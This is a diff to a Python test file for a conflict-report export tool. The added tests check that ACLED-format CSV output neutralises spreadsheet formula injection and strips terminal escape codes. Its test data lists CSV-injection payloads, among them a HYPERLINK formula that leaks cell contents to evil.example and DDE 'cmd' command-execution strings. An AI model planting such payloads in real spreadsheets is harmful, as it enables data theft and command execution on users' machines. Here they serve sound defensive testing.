@@ -18,14 +18,18 @@ from hypothesis import strategies as st
 from sitrep.errors import InputError
 from sitrep.export import (
     ACLED_COLUMNS,
+    FORMULA_STARTS,
+    PLAIN_NUMBER,
     events_from_jsonl,
     events_to_acled_csv,
     events_to_geojson,
     events_to_jsonl,
     interaction_code,
+    neutralise_cell,
     syrian_governorate,
 )
 from sitrep.model import FACT_STATUSES, Event, Span
+from sitrep.render import clean_text
 
 REPORT = ("Army units retook the hill of Tal Sheikh Youssef near Aleppo on Monday, the defence ministry said. "
           "Terrorist gangs fired rockets at the Hamdaniyah neighbourhood, killing a child.")
@@ -216,5 +220,54 @@ def test_export_property_acled_csv_parses_with_acled_header(generated: list[Even
     reader = csv.DictReader(io.StringIO(events_to_acled_csv(generated), newline=""))
     rows = list(reader)
     assert reader.fieldnames == list(ACLED_COLUMNS)
-    assert [r["event_id_cnty"] for r in rows] == [e.event_id for e in generated]
-    assert [r["notes"] for r in rows] == [e.evidence for e in generated]
+    assert [r["event_id_cnty"] for r in rows] == [neutralise_cell(e.event_id) for e in generated]
+    assert [r["notes"] for r in rows] == [neutralise_cell(e.evidence) for e in generated]
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell
+            assert "\x1b" not in cell
+
+
+@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
+def test_export_property_neutralised_cells_are_the_text_behind_a_guard(text: str) -> None:
+    cell = neutralise_cell(text)
+    assert neutralise_cell(cell) == cell  # once is enough
+    assert cell.removeprefix("'") == clean_text(text, one_line=False) or cell == clean_text(text, one_line=False)
+
+
+# Payloads from OWASP's CSV injection page and from spreadsheet exploits seen in the wild.
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1, "click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "+", "@"]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_export_acled_csv_neutralises_formulas_in_report_text(payload: str) -> None:
+    hostile = replace(report_event(REPORT.split(". ")[0] + "."), evidence=payload, actor1=payload,
+                      location=payload, source=payload, claimant=payload)
+    row = acled_rows([hostile])[0]
+    for column in ("notes", "actor1", "location", "source"):
+        assert row[column].startswith("'"), (column, row[column])
+        assert row[column][1:] == payload.lstrip("\r"), column  # the text itself kept (a CR is dropped)
+    assert not row["tags"].startswith(("=", "+", "-", "@"))
+
+
+@pytest.mark.parametrize(("cell", "kept"), [("-36.2021", True), ("-0.5", True), ("+5", True), ("1e-05", True),
+                                            ("-.5", True), ("-1+1", False), ("-36.2021,=1", False),
+                                            ("-inf", False), ("- 3", False), ("=1", False)])
+def test_export_plain_numbers_are_left_as_numbers(cell: str, kept: bool) -> None:
+    assert (neutralise_cell(cell) == cell) is kept
+    assert neutralise_cell(cell) in (cell, "'" + cell)
+
+
+def test_export_acled_csv_keeps_negative_coordinates_numeric() -> None:
+    west = report_event(REPORT.split(". ")[0] + ".", latitude=-33.8688, longitude=-70.6693)
+    row = acled_rows([west])[0]
+    assert (float(row["latitude"]), float(row["longitude"])) == (-33.8688, -70.6693)
+
+
+def test_export_acled_csv_drops_terminal_escapes() -> None:
+    hostile = replace(report_event(REPORT.split(". ")[0] + "."),
+                      evidence="Shelling \x1b[2J\x1b]0;owned\x07hit\x1b[0m the town.")
+    text = events_to_acled_csv([hostile])
+    assert "\x1b" not in text and "\x07" not in text
+    assert acled_rows([hostile])[0]["notes"] == "Shelling hit the town."
